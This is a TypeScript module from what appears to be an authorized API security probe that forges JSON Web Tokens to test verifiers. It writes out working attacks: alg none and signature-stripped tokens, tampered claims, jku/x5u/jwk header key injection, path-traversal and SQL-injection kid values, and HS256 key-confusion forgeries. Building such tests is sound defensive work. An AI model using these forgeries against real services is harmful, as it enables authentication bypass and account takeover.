import { createHmac, createPublicKey, randomUUID } from 'node:crypto';
import { exportJWK, generateKeyPair, importJWK, SignJWT, type JWK, type JSONWebKeySet } from 'jose';
import { shellQuote } from './evidence.ts';
import type { Bearer } from './target.ts';

/** A token the probe made, the rule that applies if the target accepts it, and how to remake it. */
export interface Forgery {
  readonly ruleId: string;
  readonly variant: string;
  readonly bearer: Bearer;
  readonly description: string;
}

const b64 = (value: unknown): string => Buffer.from(JSON.stringify(value)).toString('base64url');

/** The decoded header of a compact JWS (empty when it is not one). */
export function jwtHeader(token: string): Record<string, unknown> {
  try {
    const value: unknown = JSON.parse(Buffer.from(token.split('.')[0] ?? '', 'base64url').toString('utf8'));
    return typeof value === 'object' && value !== null ? (value as Record<string, unknown>) : {};
  } catch {
    return {};
  }
}

function hs256(
  header: Record<string, unknown>,
  claims: Record<string, unknown>,
  secret: Buffer | string,
): string {
  const input = `${b64({ ...header, alg: 'HS256' })}.${b64(claims)}`;
  return `${input}.${createHmac('sha256', secret).update(input).digest('base64url')}`;
}

/** A forged token anyone could make, shown inline in reproductions (it proves nothing but the flaw). */
function inline(token: string, variable = 'FORGED'): Bearer {
  return { token, variable, setup: `${variable}=${shellQuote(token)}` };
}

/** From `$TOKEN_A` by shell alone: its header and/or payload replaced, its signature kept or not. */
function derived(token: string, setup: string): Bearer {
  return { token, variable: 'FORGED', setup };
}

/**
 * Tokens built from user A's token that no correct verifier accepts: unsigned (`alg: none`), the
 * signature stripped, claims changed under the old signature, signed by a key the probe makes (with
 * A's `kid`, a `kid` pointing nowhere, a path-traversal or SQL `kid`, the key in `jwk`, `jku`, `x5u`),
 * and HS256 keyed with each public key of the issuer's JWKS (key confusion).
 *
 * @example
 * for (const f of await forgeries(tokenA, jwks)) await send({ method: 'GET', path: '/orders', bearer: f.bearer });
 */
export async function forgeries(tokenA: string, jwks: JSONWebKeySet | undefined): Promise<Forgery[]> {
  const [head = '', payload = '', signature = ''] = tokenA.split('.');
  const header = jwtHeader(tokenA);
  const claims = JSON.parse(Buffer.from(payload, 'base64url').toString('utf8')) as Record<string, unknown>;
  const typ = typeof header['typ'] === 'string' ? header['typ'] : 'JWT';
  const out: Forgery[] = [];

  for (const alg of ['none', 'nOnE']) {
    const h = { alg, typ };
    out.push({
      ruleId: 'probe/jwt-alg-none',
      variant: alg,
      description: `user A's claims under an unsigned header (alg "${alg}")`,
      bearer: derived(`${b64(h)}.${payload}.`, `FORGED="${b64(h)}.$(printf '%s' "$TOKEN_A" | cut -d. -f2)."`),
    });
  }
  out.push({
    ruleId: 'probe/jwt-signature-not-verified',
    variant: 'signature-stripped',
    description: "user A's token with its signature removed",
    bearer: derived(`${head}.${payload}.`, `FORGED="$(printf '%s' "$TOKEN_A" | cut -d. -f1,2)."`),
  });
  const tampered = b64({
    ...claims,
    scope: `${typeof claims['scope'] === 'string' ? claims['scope'] : ''} rampart-probe`.trim(),
    jti: randomUUID(),
  });
  out.push({
    ruleId: 'probe/jwt-signature-not-verified',
    variant: 'claims-tampered',
    description: "user A's token with changed claims under its original signature",
    bearer: derived(
      `${head}.${tampered}.${signature}`,
      `FORGED="$(printf '%s' "$TOKEN_A" | cut -d. -f1).${tampered}.$(printf '%s' "$TOKEN_A" | cut -d. -f3)"`,
    ),
  });

  // A key of the probe's own, which the target has never seen.
  const { privateKey, publicKey } = await generateKeyPair('ES256', { extractable: true });
  const ownJwk = await exportJWK(publicKey);
  const fresh = { ...claims, jti: randomUUID() };
  const ownSigned = (h: Record<string, unknown>): Promise<string> =>
    new SignJWT(fresh).setProtectedHeader({ ...h, alg: 'ES256', typ }).sign(privateKey);
  const kid = typeof header['kid'] === 'string' ? header['kid'] : undefined;
  out.push({
    ruleId: 'probe/jwt-signature-not-verified',
    variant: 'unknown-key',
    description: `user A's claims signed by a key the probe generated${kid === undefined ? '' : ' (with the real kid)'}`,
    bearer: inline(await ownSigned(kid === undefined ? {} : { kid })),
  });
  const headerKeys: [string, Record<string, unknown>][] = [
    ['kid-nowhere', { kid: `rampart-probe-${randomUUID()}` }],
    ['jwk-embedded', { jwk: ownJwk }],
    ['jku', { jku: 'https://rampart-probe.invalid/jwks.json', ...(kid === undefined ? {} : { kid }) }],
    ['x5u', { x5u: 'https://rampart-probe.invalid/cert.pem', ...(kid === undefined ? {} : { kid }) }],
  ];
  for (const [variant, h] of headerKeys)
    out.push({
      ruleId: 'probe/jwt-header-key-injection',
      variant,
      description: `user A's claims signed by the probe's key, named in the header by ${variant}`,
      bearer: inline(await ownSigned(h)),
    });
  out.push({
    ruleId: 'probe/jwt-header-key-injection',
    variant: 'kid-path-traversal',
    description: 'HS256 keyed with the empty file a path-traversal kid names (../../dev/null)',
    bearer: inline(hs256({ typ, kid: '../../../../../../../dev/null' }, fresh, Buffer.alloc(0))),
  });
  out.push({
    ruleId: 'probe/jwt-header-key-injection',
    variant: 'kid-sql',
    description: 'HS256 keyed with the value a SQL-injected kid selects',
    bearer: inline(hs256({ typ, kid: "x' UNION SELECT 'rampart-probe' -- " }, fresh, 'rampart-probe')),
  });

  for (const [index, key] of (jwks?.keys ?? []).slice(0, 3).entries()) {
    if (key.kty !== 'RSA' && key.kty !== 'EC' && key.kty !== 'OKP') continue;
    const pem = createPublicKey({ key: key, format: 'jwk' })
      .export({ type: 'spki', format: 'pem' })
      .toString();
    const h = { typ, ...(key.kid === undefined ? {} : { kid: key.kid }) };
    for (const [variant, secret] of [
      [`pem-${index}`, pem],
      [`pem-trimmed-${index}`, pem.trim()],
      [`jwk-json-${index}`, JSON.stringify(key)],
    ] as const)
      out.push({
        ruleId: 'probe/jwt-key-confusion',
        variant,
        description: `user A's claims in an HS256 token keyed with the issuer's public key ${key.kid ?? index} (${variant.replace(/-\d+$/, '')})`,
        bearer: inline(hs256(h, fresh, secret)),
      });
  }
  return out;
}

/** The JWS algorithm a private JWK signs with. */
function algorithmOf(jwk: JWK): string {
  if (typeof jwk.alg === 'string') return jwk.alg;
  if (jwk.kty === 'EC') return jwk.crv === 'P-384' ? 'ES384' : 'ES256';
  if (jwk.kty === 'OKP') return 'EdDSA';
  return 'RS256';
}

/**
 * Tokens only the issuer could sign — user A's claims with one rule broken, signed with the
 * issuer key from the credentials file — and the rule each breaks. Their recipe is described, never
 * printed: each is a working credential for someone holding the issuer key.
 */
export async function claimForgeries(tokenA: string, signingKey: JWK): Promise<Forgery[]> {
  const header = jwtHeader(tokenA);
  const claims = JSON.parse(Buffer.from(tokenA.split('.')[1] ?? '', 'base64url').toString('utf8')) as Record<
    string,
    unknown
  >;
  const alg = algorithmOf(signingKey);
  const key = await importJWK(signingKey, alg);
  const now = Math.floor(Date.now() / 1000);
  const sign = async (changed: Record<string, unknown>): Promise<string> =>
    new SignJWT(changed)
      .setProtectedHeader({
        alg,
        typ: typeof header['typ'] === 'string' ? header['typ'] : 'JWT',
        ...(signingKey.kid === undefined ? {} : { kid: signingKey.kid }),
      })
      .sign(key);
  const base: Record<string, unknown> = { ...claims, jti: randomUUID(), iat: now };
  const withoutExp = { ...base };
  delete withoutExp['exp'];
  const variants: [string, string, string, Record<string, unknown>][] = [
    ['probe/jwt-no-exp-accepted', 'no-exp', 'without "exp"', withoutExp],
    [
      'probe/jwt-expired-accepted',
      'expired',
      'expired an hour ago',
      { ...base, iat: now - 7200, nbf: now - 7200, exp: now - 3600 },
    ],
    [
      'probe/jwt-wrong-audience',
      'wrong-aud',
      'for the audience https://rampart-probe.invalid',
      { ...base, aud: 'https://rampart-probe.invalid' },
    ],
    [
      'probe/jwt-wrong-issuer',
      'wrong-iss',
      'from the issuer https://rampart-probe.invalid',
      { ...base, iss: 'https://rampart-probe.invalid' },
    ],
  ];
  const out: Forgery[] = [];
  for (const [ruleId, variant, what, changed] of variants) {
    const variable = `FORGED_${variant.toUpperCase().replace(/-/g, '_')}`;
    out.push({
      ruleId,
      variant,
      description: `user A's claims ${what}, signed with the issuer key`,
      bearer: {
        token: await sign(changed),
        variable,
        setup: `# ${variable}: user A's claims ${what}, signed with the issuer key (signingKey of the credentials file)`,
      },
    });
  }
  return out;
}

/** User A's claims with `scope` replaced, signed with the issuer key (the scope check's token). */
export async function tokenWithScope(tokenA: string, signingKey: JWK, scope: string): Promise<Bearer> {
  const header = jwtHeader(tokenA);
  const claims = JSON.parse(Buffer.from(tokenA.split('.')[1] ?? '', 'base64url').toString('utf8')) as Record<
    string,
    unknown
  >;
  const alg = algorithmOf(signingKey);
  const token = await new SignJWT({ ...claims, scope, jti: randomUUID() })
    .setProtectedHeader({
      alg,
      typ: typeof header['typ'] === 'string' ? header['typ'] : 'JWT',
      ...(signingKey.kid === undefined ? {} : { kid: signingKey.kid }),
    })
    .sign(await importJWK(signingKey, alg));
  return {
    token,
    variable: 'TOKEN_A_SCOPED',
    setup: `# TOKEN_A_SCOPED: user A's claims with scope "${scope}", signed with the issuer key`,
  };
}
